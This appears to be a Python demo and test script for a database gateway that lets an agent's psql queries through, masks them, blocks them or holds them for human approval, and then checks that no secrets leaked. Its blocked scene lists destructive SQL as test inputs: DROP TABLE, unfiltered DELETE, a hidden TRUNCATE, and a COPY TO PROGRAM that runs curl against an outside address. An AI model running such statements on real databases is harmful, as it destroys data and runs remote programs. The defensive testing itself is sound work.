"""What an agent and a reviewer do, each with the commands they would use anyway, and what must come of it."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

import orjson

from evidence.store import EvidenceStore
from gateway.demo.ssh_scene import play_ssh
from gateway.demo.world import AGENT, PRINCIPAL, REVIEWER, SECRET_VALUES, STRANGER, World
from gateway.errors import SealgateError

COMMAND_TIMEOUT_S: Final = 90
APPEAR_TIMEOUT_S: Final = 40
"""How long a ticket or a record may take to be seen; they appear within a second."""

_DECISION_ID: Final = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")


@dataclass(frozen=True, slots=True)
class Step:
    """One thing that was tried. `client` is the command's name; `observed` is what came back, shortened."""

    step: str
    client: str
    expected: str
    observed: str
    ok: bool
    decision_id: str | None = None
    command: str = ""

    def as_json(self) -> dict[str, Any]:
        """The step as one JSON line of `sealgate demo --json`."""
        members = ("step", "client", "expected", "observed", "ok", "decision_id")
        return {name: getattr(self, name) for name in members}


@dataclass(frozen=True, slots=True)
class Answer:
    """What a command printed, both streams, and its exit code."""

    text: str
    code: int


class Stage:
    """Runs commands as an agent or a reviewer would, and remembers everything an agent ever saw."""

    def __init__(self, world: World) -> None:
        self.world = world
        self.seen_by_agents: list[str] = []
        self.agent_token = world.token(PRINCIPAL, groups=("agents",), act={"sub": AGENT})
        self._records_read = 0

    def psql(self, sql: str | Sequence[str], *, token: str | None = None, database: str | None = None) -> Answer:
        """Stock psql with these statements, one -c each."""
        return self.finish(self.start_psql(sql, token=token, database=database))

    def start_psql(
        self, sql: str | Sequence[str], *, token: str | None = None, database: str | None = None
    ) -> subprocess.Popen[str]:
        """Start psql and do not wait for it."""
        statements = [sql] if isinstance(sql, str) else list(sql)
        psql = shutil.which("psql")
        if psql is None:
            raise SealgateError(
                "psql is not installed", fix="install a PostgreSQL client (Debian: apt-get install postgresql-client)"
            )
        arguments = [psql, "-X", "--no-psqlrc", "-P", "pager=off", *(part for text in statements for part in ("-c", text))]
        own = {name: value for name, value in os.environ.items() if name in {"PATH", "LANG", "LC_ALL", "HOME", "TMPDIR"}}
        agent = self.world.agent_environment(token or self.agent_token)
        if database is not None:
            agent["PGDATABASE"] = database
        return subprocess.Popen(  # noqa: S603 - the stock client, found on PATH
            arguments, env={**own, **agent}, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
        )

    def finish(self, process: subprocess.Popen[str]) -> Answer:
        """Wait for a started psql."""
        text, _ = process.communicate(timeout=COMMAND_TIMEOUT_S)
        self.seen_by_agents.append(text)
        return Answer(text, process.returncode)

    def approvals(self, *arguments: str, name: str = REVIEWER, kind: str = "human") -> Answer:
        """`sealgate approvals …` as this person, with their own token and signing identity."""
        environment = os.environ | self.world.reviewer_environment(name, kind=kind)
        command = [sys.executable, "-m", "gateway.cli", "approvals", *arguments]
        done = subprocess.run(  # noqa: S603 - our own program
            command, env=environment, capture_output=True, text=True, timeout=COMMAND_TIMEOUT_S, check=False
        )
        return Answer(done.stdout + done.stderr, done.returncode)

    def wait_for_ticket(self) -> str:
        """The id of the request that waits, as soon as the reviewer sees it. Raises SealgateError."""
        deadline = time.monotonic() + APPEAR_TIMEOUT_S
        while time.monotonic() < deadline:
            found = orjson.loads(self.approvals("list", "--json").text or "[]")
            if found:
                return str(found[0]["ticket"])
        raise SealgateError("no request for approval appeared", fix=f"see {self.world.directory / 'gateway.log'}")

    def find_decision(self, effect: str) -> str | None:
        """The newest recorded decision of this effect about a request, which the log shows within a second or two."""
        deadline = time.monotonic() + APPEAR_TIMEOUT_S
        while time.monotonic() < deadline:
            for _, record in self._new_records():
                if record["type"] == "decision" and record["decision"]["effect"] == effect:
                    return str(record["decision_id"])
            time.sleep(0.1)
        return None

    def _new_records(self) -> Iterator[tuple[int, Mapping[str, Any]]]:
        store = EvidenceStore(self.world.evidence)
        log = store.open_log(store.list_origins()[0])
        checkpoint = log.read_checkpoint()
        size = checkpoint.size if checkpoint is not None else 0
        fresh = list(log.iterate_records(size, self._records_read))
        self._records_read = size
        return iter(fresh[::-1])


def play(stage: Stage) -> Iterator[Step]:
    """The scenes in order; each yields its steps as they happen."""
    yield from _allowed(stage)
    yield from _masked(stage)
    yield from _blocked(stage)
    yield from _held(stage)
    yield from _identity(stage)
    yield from _over_ssh(stage)


def close(stage: Stage) -> Iterator[Step]:
    """The last scene, once every agent has done what it does."""
    yield _credential_unseen(stage)


def _allowed(stage: Stage) -> Iterator[Step]:
    sql = "SELECT city, count(*) FROM customers GROUP BY city ORDER BY city"
    answer = stage.psql(sql)
    ok = answer.code == 0 and "Hampton" in answer.text
    yield Step(
        "allowed: ordinary data", "psql", "three cities with their counts", shorten(answer), ok, stage.find_decision("allow"), sql
    )


def _masked(stage: Stage) -> Iterator[Step]:
    sql = "SELECT name, ssn, card_number, notes FROM customers WHERE id = 2"
    answer = stage.psql(sql)
    ok = answer.code == 0 and "Grace" in answer.text and "5559" in answer.text and not _leaks(answer)
    expected = "the row, with the number masked, the card's last four digits, and the phone number in the notes masked"
    yield Step("masked: sensitive columns", "psql", expected, shorten(answer), ok, stage.find_decision("mask"), sql)
    sql = "SELECT tax_number, upper('x' || tax_number) FROM contact"
    answer = stage.psql(sql)
    ok = answer.code == 0 and not _leaks(answer) and "(3 rows)" in answer.text
    expected = "three rows, masked through the view and in the expression"
    yield Step(
        "masked: through a view and an expression", "psql", expected, shorten(answer), ok, stage.find_decision("mask"), sql
    )


def _blocked(stage: Stage) -> Iterator[Step]:
    attempts = (
        ("blocked: destroy a table", "DROP TABLE customers", "postgres.destructive.drop"),
        ("blocked: delete without WHERE", "DELETE FROM customers", "postgres.destructive.unfiltered_write"),
        (
            "blocked: search by a sensitive column",
            "SELECT name FROM customers WHERE ssn LIKE '457%'",
            "postgres.regulated.predicate",
        ),
        ("blocked: hidden in a second statement", "SELECT 1; TRUNCATE ledger", "postgres.destructive.truncate"),
        (
            "blocked: hidden in a CTE",
            "WITH gone AS (DELETE FROM ledger RETURNING 1) SELECT 1",
            "postgres.destructive.unfiltered_write",
        ),
        (
            "blocked: a program on the server",
            "COPY customers TO PROGRAM 'curl http://198.51.100.7/'",
            "postgres.destructive.server_file",
        ),
    )
    for name, sql, rule in attempts:
        answer = stage.psql(sql)
        found = _DECISION_ID.search(answer.text)
        ok = rule in answer.text and found is not None and "ERROR" in answer.text
        yield Step(name, "psql", f"ERROR naming rule {rule}", shorten(answer), ok, found.group() if found else None, sql)
    answer = stage.psql(["DROP TABLE ledger", "SELECT count(*) FROM ledger"])
    ok = "ERROR" in answer.text and "(1 row)" in answer.text
    yield Step(
        "the session lives on after a refusal",
        "psql",
        "an ERROR, then the count",
        shorten(answer),
        ok,
        stage.find_decision("allow"),
        "DROP …; SELECT …",
    )


def _held(stage: Stage) -> Iterator[Step]:
    sql = "INSERT INTO ledger (account, cents) VALUES ('vendor 17', -9900)"
    process = stage.start_psql(sql)
    ticket = stage.wait_for_ticket()
    own = stage.approvals("approve", ticket, name=AGENT, kind="agent")
    yield Step(
        "the agent cannot approve its own request",
        "sealgate",
        "refused",
        shorten(own),
        own.code != 0,
        None,
        f"sealgate approvals approve {ticket}",
    )
    shown = stage.approvals("show", ticket)
    yield Step(
        "the reviewer sees the exact statement",
        "sealgate",
        sql,
        shorten(shown),
        sql in shown.text.replace("\n", " "),
        None,
        f"sealgate approvals show {ticket}",
    )
    approved = stage.approvals("approve", ticket, "--note", "matches invoice 4711")
    ok = approved.code == 0
    yield Step(
        "a second person approves and signs",
        "sealgate",
        "approved",
        shorten(approved),
        ok,
        None,
        f"sealgate approvals approve {ticket}",
    )
    answer = stage.finish(process)
    ok = "INSERT 0 1" in answer.text
    yield Step(
        "held, approved, executed",
        "psql",
        "INSERT 0 1 once the approval is in",
        shorten(answer),
        ok,
        stage.find_decision("allow"),
        sql,
    )
    process = stage.start_psql(sql)
    again = stage.wait_for_ticket()
    denied = stage.approvals("deny", again, "--note", "one payment is enough")
    answer = stage.finish(process)
    ok = denied.code == 0 and again != ticket and "ERROR" in answer.text and "one payment is enough" in answer.text
    found = _DECISION_ID.search(answer.text)
    expected = "a new ticket, because an approval is good once; ERROR with the reviewer's words"
    yield Step("the same statement again, denied", "psql", expected, shorten(answer), ok, found.group() if found else None, sql)


def _identity(stage: Stage) -> Iterator[Step]:
    guest = stage.world.token(STRANGER, groups=("guests",))
    expired = stage.world.token(AGENT, groups=("agents",), exp=1_700_000_000, iat=1_699_999_000, nbf=1_699_999_000)
    for name, token, word in (
        ("a token of nobody's", stage.agent_token[:-6] + "AAAAAA", "FATAL"),
        ("an expired token", expired, "expired"),
        ("a stranger's token", guest, "FATAL"),
    ):
        answer = stage.psql("SELECT 1", token=token)
        found = _DECISION_ID.search(answer.text)
        ok = answer.code != 0 and word in answer.text and found is not None
        yield Step(
            f"refused: {name}", "psql", "no session, and a decision id", shorten(answer), ok, found.group() if found else None
        )


def _over_ssh(stage: Stage) -> Iterator[Step]:
    """The same agent with stock ssh and scp, where an OpenSSH server is installed."""
    world = stage.world
    if world.ssh is None:
        return
    for tried in play_ssh(world.ssh, world.addresses["admin"], stage.agent_token, world.directory / "agent-ssh"):
        stage.seen_by_agents.append(tried.observed)
        observed = shorten(Answer(tried.observed, 0))
        yield Step(tried.name, tried.client, tried.expected, observed, tried.is_ok, tried.decision_id, tried.command)


def _credential_unseen(stage: Stage) -> Step:
    """Grep everything agents saw, and the evidence and log on disk, for the target's password and the planted values."""
    world = stage.world
    needles = (world.target_password.encode(), world.http.token.encode(), *(value.encode() for value in SECRET_VALUES))
    agents = "\n".join(stage.seen_by_agents).encode()
    places = {"what agents saw": agents, "gateway.log": (world.directory / "gateway.log").read_bytes()}
    places |= {str(path.relative_to(world.directory)): path.read_bytes() for path in world.evidence.rglob("*") if path.is_file()}
    found = sorted({place for place, data in places.items() for needle in needles if needle in data})
    observed = f"searched {len(places)} places" + (f"; found in {', '.join(found)}" if found else "; found nowhere")
    return Step("the credential and the masked values are nowhere to be seen", "grep", "found nowhere", observed, not found)


def _leaks(answer: Answer) -> bool:
    return any(value in answer.text for value in SECRET_VALUES)


def find_decision_id(answer: Answer) -> str | None:
    """The decision id a client was told."""
    found = _DECISION_ID.search(answer.text)
    return found.group() if found else None


def shorten(answer: Answer, limit: int = 900) -> str:
    """What a command printed, without empty lines, as far as a step shows it."""
    lines = [line.rstrip() for line in answer.text.strip().splitlines() if line.strip()]
    return "\n".join(lines)[:limit]


def relative(path: Path) -> str:
    """A path as a person would type it from where they are."""
    try:
        return str(path.relative_to(Path.cwd()))
    except ValueError:
        return str(path)
